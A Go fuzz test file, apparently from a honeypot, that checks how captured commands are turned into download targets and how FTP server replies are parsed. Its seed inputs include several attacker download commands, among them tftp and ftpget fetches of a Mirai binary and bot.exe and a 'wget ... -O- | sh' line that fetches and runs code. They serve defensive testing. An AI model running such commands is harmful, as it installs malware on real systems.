package download

import (
	"bufio"
	"net"
	"net/url"
	"strings"
	"testing"

	"github.com/smallpot/smallpot/internal/event"
)

func FuzzIntents(f *testing.F) {
	for _, s := range []string{
		`tftp -i 198.51.100.3 GET Admin.dll c:\Admin.dll`,
		"tftp -g -l dvrHelper -r mirai.arm7 198.51.100.5 69",
		"ftpget -v -u a -p b -P 2121 198.51.100.6 x y",
		"echo open 198.51.100.7 21>o&echo user x y>>o&echo get bot.exe>>o&ftp -n -s:o",
		"cd /tmp; wget http://198.51.100.2:8080/bins/x86 -O- | sh",
		"/c+tftp%20-i%20198.51.100.9%20GET%20Admin.dll",
	} {
		f.Add(s)
	}
	all := map[string]bool{"http": true, "https": true, "ftp": true, "tftp": true}
	f.Fuzz(func(t *testing.T, s string) {
		for _, d := range []event.Detail{&event.Command{Line: s}, &event.Payload{Data: []byte(s)},
			&event.Request{Query: s, Body: []byte(s), Headers: []event.Header{{Name: "X", Value: s}}}, &event.Download{URL: s, Command: s}} {
			got := intents(&event.Event{Kind: d.Kind(), Detail: d}, true)
			if len(got) > maxIntents {
				t.Fatalf("%d intents; want at most %d", len(got), maxIntents)
			}
			for _, u := range got {
				if _, err := url.Parse(u); err != nil && d.Kind() != event.KindDownload {
					t.Errorf("intent %q is no URL: %v", u, err)
				}
				if tg, err := parseTarget(u, all, nil); err == nil && tg.proto != "http" && tg.proto != "https" &&
					strings.ContainsAny(tg.path+tg.user+tg.pass, "\r\n\x00") {
					t.Errorf("target %+v carries a line break into a protocol command", tg)
				}
			}
		}
	})
}

func FuzzFTPReply(f *testing.F) {
	f.Add("220 ready\r\n")
	f.Add("220-Welcome\r\n  to\r\n220 ready\r\n")
	f.Add("227 Entering Passive Mode (127,0,0,1,200,10).\r\n")
	f.Fuzz(func(t *testing.T, s string) {
		a, b := net.Pipe()
		defer a.Close()
		go func() {
			defer b.Close()
			_, _ = b.Write([]byte(s))
		}()
		c := ftpConn{conn: a, r: bufio.NewReaderSize(a, ftpLine)}
		code, msg, err := c.reply()
		if err == nil && (code < 100 || code > 599 || len(msg) > 120+3) {
			t.Errorf("got %d %q", code, msg)
		}
		_, _ = pasvPort(msg)
		_, _ = epsvPort(msg)
	})
}
